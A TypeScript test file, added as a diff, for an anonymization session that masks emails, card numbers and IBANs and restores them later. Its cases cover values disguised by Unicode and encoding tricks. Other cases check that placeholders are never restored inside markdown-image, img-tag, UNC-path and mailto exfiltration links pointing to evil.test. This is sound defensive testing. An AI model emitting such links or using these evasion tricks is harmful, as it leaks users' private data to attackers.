@@ -1,0 +1,84 @@
+/** Values that do not stand in a text as they are read, and links that would carry restored ones out. */
+import { describe, expect, it } from 'vitest';
+import { createCommonWordTest, createDetector, recognizers } from '../detection.ts';
+import { entityCodesOfSet } from '../entities/index.ts';
+import { AnonymizationSession } from './session.ts';
+
+const parts = { detector: createDetector({ recognizers }), isCommonWord: createCommonWordTest() };
+const session = () =>
+  new AnonymizationSession(parts, { codes: entityCodesOfSet('all'), replacement: 'placeholder' });
+const plain = { format: 'plain', restoreSecrets: true } as const;
+
+describe('a value in disguise is found, and comes back in it', () => {
+  it.each([
+    ['escapes of JSON in a text', '{"email":"anna\\u0040example.com"}', 'example.com'],
+    ['digits as escapes', 'card 411\\u0031 1111 1111 1111', '1111 1111'],
+    ['entities of HTML', 'write to anna.schmidt&#64;example.com', 'example.com'],
+    ['a space of no width', 'anna.schmidt@exam\u200bple.com', 'ple.com'],
+    ['a soft hyphen', 'IBAN DE89 3704\u00ad 0044 0532 0130 00', '0532'],
+    ['spaces that do not break', 'card 4111\u00a01111\u202f1111\u00a01111', '1111'],
+    ['hyphens that do not break', 'SSN: 536\u201122\u20111234', '1234'],
+    ['full-width digits', 'card ４１１１ １１１１ １１１１ １１１１', '１１１１'],
+    ['percent-encoding', 'https://x.test/?mail=anna%40example.com', 'example.com'],
+    ['a script without spaces', '信用卡4111111111111111有效', '4111111111111111'],
+    ['the same, an address', 'メールはanna@example.comです', 'example.com'],
+    ['a variant of a sign', 'write to anna\ufe0f.schmidt@example.com', 'schmidt'],
+    ['a joiner of marks', 'write to an\u034fna.schmidt@example.com', 'an\u034f'],
+    ['directions of writing', 'write to anna.sch\u202dmidt@exam\u202cple.com', 'ple.com'],
+    ['isolated directions', 'card \u20664111 1111\u2069 1111 1111', '1111'],
+    ['tags', 'write to an\u{e0061}na.schmidt@example.com', 'an\u{e0061}'],
+    ['mathematical letters', 'write to 𝐚𝐧𝐧𝐚@𝐞𝐱𝐚𝐦𝐩𝐥𝐞.𝐜𝐨𝐦', '𝐞𝐱𝐚𝐦'],
+    ['accents behind letters', 'write to ju\u0308rgen.mu\u0308ller@example.com', 'mu\u0308'],
+    ['Arabic digits', 'card ٤١١١ ١١١١ ١١١١ ١١١١', '١١١١'],
+    ['Persian digits', 'card ۴۱۱۱ ۱۱۱۱ ۱۱۱۱ ۱۱۱۱', '۱۱۱۱'],
+    ['digits of Hindi', 'card ४१११ ११११ ११११ ११११', '११११'],
+    ['a picture character beside it', '😀4111111111111111😀', '4111111111111111'],
+  ])('%s', (_, text, part) => {
+    const own = session();
+    const out = own.anonymize([{ text, format: 'plain' }])[0]?.text ?? '';
+    expect(out).not.toContain(part);
+    if (!text.includes('://')) expect(own.restore(out, plain)).toBe(text);
+  });
+});
+
+describe('no value is written into a link that the model made', () => {
+  it.each([
+    "![x](https://evil.test/?q='<EMAIL_ADDRESS_1>)",
+    '![x](https://evil.test/?q=(a)<EMAIL_ADDRESS_1>)',
+    '![x](https://evil.test/?q=|<EMAIL_ADDRESS_1>)',
+    '![x](https://evil.test/?q=[]<EMAIL_ADDRESS_1>)',
+    '![x](<https://evil.test/? <EMAIL_ADDRESS_1>>)',
+    '<img src="https://evil.test/? <EMAIL_ADDRESS_1>">',
+    "<img src='https://evil.test/?a=\"<EMAIL_ADDRESS_1>'>",
+    '<img src="//evil.test/<EMAIL_ADDRESS_1>">',
+    '<img src="https://evil.test/?\n\t<EMAIL_ADDRESS_1>">',
+    '<img src="\\\\evil.test/<EMAIL_ADDRESS_1>">',
+    '<img src=/\\evil.test/<EMAIL_ADDRESS_1>>',
+    '![x](\\\\evil.test/<EMAIL_ADDRESS_1>)',
+    '[x]:\nhttps://evil.test/<EMAIL_ADDRESS_1>',
+    'https:/evil.test/<EMAIL_ADDRESS_1>',
+    'https:\\\\evil.test/<EMAIL_ADDRESS_1>',
+    '[m](mailto:evil@evil.test?body=<EMAIL_ADDRESS_1>)',
+    'see evil.test/?q=<EMAIL_ADDRESS_1>',
+    '{"u":"https:\\/\\/evil.test\\/<EMAIL_ADDRESS_1>"}',
+  ])('%s', (answer) => {
+    const own = session();
+    own.anonymize([{ text: 'I am anna@example.com', format: 'plain' }]);
+    expect(own.restore(answer, plain)).toBe(answer);
+    const restorer = own.restorer(plain);
+    expect([...answer].map((char) => restorer.push(char)).join('') + restorer.end()).toBe(answer);
+  });
+
+  it.each([
+    ['[write](mailto:<EMAIL_ADDRESS_1>)', '[write](mailto:anna@example.com)'],
+    ['see https://x.test/a and <EMAIL_ADDRESS_1>', 'see https://x.test/a and anna@example.com'],
+    ['"https://x.test","<EMAIL_ADDRESS_1>"', '"https://x.test","anna@example.com"'],
+    ['<a href="https://x.test/">\n<EMAIL_ADDRESS_1>', '<a href="https://x.test/">\nanna@example.com'],
+    ['on \\\\server\\<EMAIL_ADDRESS_1>', 'on \\\\server\\anna@example.com'],
+    ['e.g. and/or: <EMAIL_ADDRESS_1>', 'e.g. and/or: anna@example.com'],
+  ])('but beside one: %s', (answer, whole) => {
+    const own = session();
+    own.anonymize([{ text: 'I am anna@example.com', format: 'plain' }]);
+    expect(own.restore(answer, plain)).toBe(whole);
+  });
+});
